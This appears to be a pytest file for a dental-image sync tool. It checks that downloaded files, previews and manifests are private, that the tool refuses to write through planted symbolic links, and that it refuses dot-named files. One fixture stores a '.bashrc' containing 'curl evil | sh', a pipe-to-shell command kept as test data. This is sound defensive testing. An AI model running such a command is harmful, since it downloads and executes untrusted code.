"""Files written on the worker (issue 33): downloads, previews and viewer manifests are
owner-only, in a folder created 0700, never written through a symbolic link (at the final
name or at a temporary one), and never over a file this run did not write."""

from __future__ import annotations

import json
import os
import stat

import boto3
import pytest
from moto import mock_aws

from pdata_sync.archive.retrieval import list_patient_images, write_manifest_file
from pdata_sync.base.config import S3Config
from pdata_sync.base.errors import InvalidRequestError
from pdata_sync.base.local_files import UNCHANGED, WRITTEN, NotReplaced, write_new
from pdata_sync.pipeline.previews import write_previews

G = "3f2c8a54-1b7e-4c1e-9a3d-2b6f0c9e8d71"
BUCKET = "dental-images"


def mode(path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.fixture
def s3(aws_env):
    with mock_aws():
        client = boto3.client("s3", region_name="us-east-1")
        client.create_bucket(Bucket=BUCKET)
        yield client


@pytest.fixture
def outside(tmp_path):
    """A file outside the folder, which a planted link points at."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    return victim


def test_a_link_at_the_old_temporary_name_is_not_followed(tmp_path, outside):
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / ".m.json.part").symlink_to(outside)  # where the manifest used to be staged
    write_manifest_file(folder / "m.json", {"studies": []})
    assert outside.read_text() == "precious\n"
    final = folder / "m.json"
    assert not final.is_symlink() and json.loads(final.read_text()) == {"studies": []}
    assert mode(final) == 0o600
    assert sorted(p.name for p in folder.iterdir()) == [".m.json.part", "m.json"]  # no debris


def test_a_link_or_a_file_at_the_final_name_is_never_replaced(tmp_path, outside):
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "m.json").symlink_to(outside)
    with pytest.raises(InvalidRequestError, match="exists: it is not replaced"):
        write_manifest_file(folder / "m.json", {"studies": []})
    assert outside.read_text() == "precious\n" and (folder / "m.json").is_symlink()
    dangling = folder / "d.png"
    dangling.symlink_to(tmp_path / "not-there")
    with pytest.raises(NotReplaced):
        write_new(dangling, b"x")
    assert not (tmp_path / "not-there").exists()
    mine = folder / "a.bin"
    assert write_new(mine, b"abc") == WRITTEN
    assert write_new(mine, b"abc") == UNCHANGED  # the same bytes: nothing to do
    with pytest.raises(NotReplaced):
        write_new(mine, b"abd")
    assert mine.read_bytes() == b"abc"
    assert [p.name for p in folder.iterdir() if p.name.endswith(".part")] == []


def test_downloads_are_private_hidden_names_refused_other_files_kept(s3, tmp_path):
    bodies = {
        f"images/{G}/c-1_7_OPG.dcm": b"plain",
        f"images/{G}/c-1_8_BW.dcm": b"bitewing",
        f"images/{G}/.bashrc": b"curl evil | sh",  # written by someone else
    }
    for key, body in bodies.items():
        s3.put_object(Bucket=BUCKET, Key=key, Body=body)
    folder = tmp_path / "new" / "dl"
    found = {
        e["key"]: e
        for e in list_patient_images(s3, S3Config(bucket=BUCKET), G, download_dir=folder)
    }
    assert mode(folder) == 0o700
    assert sorted(p.name for p in folder.iterdir()) == ["c-1_7_OPG.dcm", "c-1_8_BW.dcm"]
    assert all(mode(p) == 0o600 for p in folder.iterdir())
    assert found[f"images/{G}/.bashrc"]["download_problem"] == (
        "its name begins with a dot: not downloaded"
    )
    assert "path" not in found[f"images/{G}/.bashrc"]

    # again, after someone changed one file in the folder: it is kept and reported
    (folder / "c-1_8_BW.dcm").write_bytes(b"my notes")
    again = {
        e["key"]: e
        for e in list_patient_images(s3, S3Config(bucket=BUCKET), G, download_dir=folder)
    }
    assert (folder / "c-1_8_BW.dcm").read_bytes() == b"my notes"
    assert "not replaced" in again[f"images/{G}/c-1_8_BW.dcm"]["download_problem"]
    assert again[f"images/{G}/c-1_7_OPG.dcm"]["download"] == UNCHANGED


def test_a_download_folder_that_is_a_link_is_refused(s3, tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    s3.put_object(Bucket=BUCKET, Key=f"images/{G}/c-1_7_OPG.dcm", Body=b"x")
    with pytest.raises(InvalidRequestError, match="is a symbolic link"):
        list_patient_images(s3, S3Config(bucket=BUCKET), G, download_dir=tmp_path / "link")
    assert list(real.iterdir()) == []


def test_previews_are_never_written_through_a_link(s3, tmp_path, outside, dicom_file):
    s3.put_object(Bucket=BUCKET, Key=f"images/{G}/c-1_5_IO.dcm", Body=dicom_file.read_bytes())
    s3.put_object(Bucket=BUCKET, Key=f"images/{G}/c-1_6_IO.dcm", Body=dicom_file.read_bytes())
    folder = tmp_path / "previews"
    folder.mkdir()
    (folder / "c-1_5_IO.png").symlink_to(outside)
    (folder / ".c-1_6_IO.png.part").symlink_to(outside)
    got = {e["key"]: e for e in write_previews(s3, S3Config(bucket=BUCKET), G, folder)}
    assert outside.read_text() == "precious\n"
    assert "not replaced" in got[f"images/{G}/c-1_5_IO.dcm"]["problem"]
    made = folder / "c-1_6_IO.png"
    assert got[f"images/{G}/c-1_6_IO.dcm"]["file"] == str(made)
    assert not made.is_symlink() and made.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert mode(made) == 0o600
